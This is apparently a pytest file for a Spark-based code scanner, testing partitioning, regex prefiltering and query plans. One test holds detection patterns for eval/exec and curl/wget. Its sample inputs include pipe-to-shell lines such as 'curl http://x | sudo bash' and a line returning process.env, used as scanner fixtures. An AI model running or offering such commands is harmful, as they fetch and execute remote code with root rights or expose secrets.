"""What keeps the scan's time in proportion to its input, and its results the same."""

from conftest import SF
from pyspark.sql import functions as F

from siftspark import queries
from siftspark.functions import text as T
from siftspark.operators import catalog, history
from siftspark.plans.scan import scan
from siftspark.sources import fixtures


def test_lines_are_dealt_in_fixed_parts(spark):
    """Rules take far more time than their lines' bytes tell: parts must not be joined because they are small."""
    lines = fixtures.code_lines(spark, SF)
    assert lines.select(F.spark_partition_id()).distinct().count() == int(spark.conf.get("spark.sql.shuffle.partitions"))


def test_strings_that_patterns_need(spark):
    """Lines without any of a pattern's strings are not put to it; what the rules find stays the same."""
    assert T.needed(r"(?<![.\w])(eval|exec)\s*\(") == (("val", "xec"), False)
    assert T.needed(r"(?i)\b(?:Curl|wget)+\s[^|]*") == (("curl", "wget"), True)
    assert T.needed(r"x?|ab") == T.needed(r"[ab]c*") == ((), False)
    rules = [r for g in catalog.GROUPS for r in g.rules]
    assert all(T.needed(r.pattern)[0] for r in rules)
    cases = ["curl http://x | sudo bash", "CURL http://x | SH", "user Root", "USER root", "Math.random() * TOKEN", "ERR.stack .json(", "res.json(process.env)", "\u0130 = 'SECRET' // \u212a", "", None]
    lines = fixtures.code_lines(spark, SF).select("line").union(spark.createDataFrame([(c,) for c in cases], "line string"))
    ways = [(T.fits(F.col("line"), F.lower("line"), r.pattern), F.col("line").rlike(T.java(r.pattern))) for r in rules]
    differ = lines.agg(*(F.count(F.when(F.coalesce(a, F.lit(False)) != F.coalesce(b, F.lit(False)), 1)).alias(f"c{i}") for i, (a, b) in enumerate(ways)))
    assert set(differ.first()) == {0}


def plan(df):
    return df._jdf.queryExecution().optimizedPlan().toString()


def test_knowledge_reads_findings_once(spark):
    """An observation reduces the findings once; a run that observes twice keeps what is left of them."""
    found = queries.raw_findings(spark, SF)
    assert "Generate explode" not in plan(queries.kb_upsert(spark, SF)) or "InMemoryRelation" in plan(queries.kb_upsert(spark, SF))
    rows = found.unionByName(found.withColumn("severity", F.lit("low")).withColumn("rule_ord", F.col("rule_ord") + 100))  # a signature of two severities
    one, two = history.observe(rows), history.observe_files(history.by_file(rows, "severity"))
    assert one.exceptAll(two).count() == two.exceptAll(one).count() == 0


def test_joined_baselines_are_not_sorted(spark):
    assert "Sort [" not in plan(queries.baseline_new(spark, SF))
    assert "Sort [" not in plan(queries.baseline_accepted(spark, SF))


def test_scan_computes_its_files_once(spark):
    """All probes read one stored table of the files that a scan sees, not the steps that made it."""
    files = fixtures.code_files(spark, SF)
    assert "user_id" not in plan(scan(spark, files).raw).replace("InMemoryRelation", "")
